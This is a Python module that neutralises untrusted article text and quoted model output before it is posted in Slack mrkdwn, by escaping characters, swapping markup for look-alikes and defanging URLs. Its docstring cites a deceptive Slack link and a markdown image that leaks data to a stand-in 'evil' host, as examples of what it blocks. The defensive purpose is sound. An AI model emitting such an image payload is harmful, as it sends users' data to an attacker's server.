"""Text from articles (and the model that quotes them) made inert for Slack's mrkdwn.

Slack has no backslash escape for `*bold*`, `_italic_`, `~strike~` or backticks, and it turns
bare URLs into links. An article is untrusted input: a quote like `<http://evil|click>` or
`![x](http://evil/leak?d=…)` must reach the reader as text, never as a link or formatting.

    >>> inert("*Buy* <http://x.io|now>")
    '∗Buy∗ &lt;http[:]//x.io|now&gt;'
"""

from __future__ import annotations

from api.markdown_text import defang_urls

# Look-alikes that mrkdwn does not treat as markup; the reader sees nearly the same text.
_MARKUP = str.maketrans(
    {
        "*": "\u2217",  # ∗ asterisk operator
        "_": "\u02cd",  # ˍ modifier letter low macron
        "~": "\u223c",  # ∼ tilde operator
        "`": "\u02cb",  # ˋ modifier letter grave accent
    }
)


def escape(text: str) -> str:
    """Slack's mrkdwn escaping; it also stops model or article text from pinging `<!channel>`."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def unescape(text: str) -> str:
    return text.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")


def inert_code(text: str) -> str:
    """`text` for inside a `code span`: nothing is formatted there, but a backtick would end it."""
    return escape(text.replace("`", "\u02cb"))


def inert(text: str) -> str:
    """`text` escaped, with mrkdwn markup characters swapped for look-alikes and URLs defanged.

    Send it in a mrkdwn object with `"verbatim": true` too, so Slack does not link it either.
    """
    return escape(defang_urls(text).translate(_MARKUP))
